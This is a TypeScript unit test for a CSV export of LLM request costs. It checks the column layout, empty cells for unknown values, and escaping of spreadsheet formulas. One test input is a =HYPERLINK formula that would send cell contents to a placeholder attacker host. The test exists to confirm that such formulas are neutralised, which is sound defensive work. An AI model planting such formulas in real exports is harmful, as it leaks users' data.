import assert from 'node:assert/strict';
import { costsCsv } from '../../../../../src/features/costs/node/costReport';

describe('costsCsv', () => {
  const header =
    'day,time,purpose,gateway,model,input_tokens,cached_tokens,cache_write_tokens,output_tokens,reasoning_tokens,cost,currency,cost_source,is_estimate,is_minimum';

  it('has a line for each request, and nothing where something is unknown', () => {
    const csv = costsCsv([
      {
        id: '1',
        day: '2026-11-28',
        at: Date.UTC(2026, 10, 28, 23, 59, 1),
        purpose: 'toolRound',
        gateway: 'https://openrouter.ai/api/v1#work',
        model: 'openai/gpt-5.2',
        usage: {
          inputTokens: 12_345,
          outputTokens: 678,
          reasoningTokens: 600,
          cachedTokens: 1_000,
        },
        cost: { amount: 0.1 + 0.2, currency: 'USD' },
        costSource: 'gateway',
      },
      {
        id: '2',
        day: '2026-11-29',
        gateway: 'https://llm.example/v1',
        model: 'qwen3-8b',
        usage: { inputTokens: 9, outputTokens: 1 },
        cost: { amount: 1.5e-7, currency: 'CNY', isEstimate: true, isMinimum: true },
        costSource: 'priceList',
      },
      { id: '3', day: '2026-11-29', gateway: 'https://llm.example/v1', model: 'qwen3-8b' },
    ]);
    assert.deepEqual(csv.split('\n'), [
      header,
      '2026-11-28,2026-11-28T23:59:01.000Z,toolRound,https://openrouter.ai/api/v1#work,openai/gpt-5.2,12345,1000,,678,600,0.3,USD,gateway,,',
      '2026-11-29,,,https://llm.example/v1,qwen3-8b,9,,,1,,0.00000015,CNY,priceList,true,true',
      '2026-11-29,,,https://llm.example/v1,qwen3-8b,,,,,,,,,,',
      '',
    ]);
  });

  // The first is how Cloudflare names its models.
  for (const [model, cell] of [
    ['@cf/meta/llama-3.1-8b-instruct', "'@cf/meta/llama-3.1-8b-instruct"],
    [
      '=HYPERLINK("https://evil.example?"&A1,"gpt")',
      `"'=HYPERLINK(""https://evil.example?""&A1,""gpt"")"`,
    ],
    ['+1', "'+1"],
    ['-m, "x"\n=1', `"'-m, ""x""\n=1"`],
    ['\t=1', "'\t=1"],
    ['gpt-5.2', 'gpt-5.2'],
  ] as const) {
    it(`has no formula for ${JSON.stringify(model)}`, () => {
      const csv = costsCsv([{ id: '1', day: '2026-11-28', gateway: 'g', model }]);
      assert.equal(csv, `${header}\n2026-11-28,,,g,${cell},,,,,,,,,,\n`);
    });
  }
});
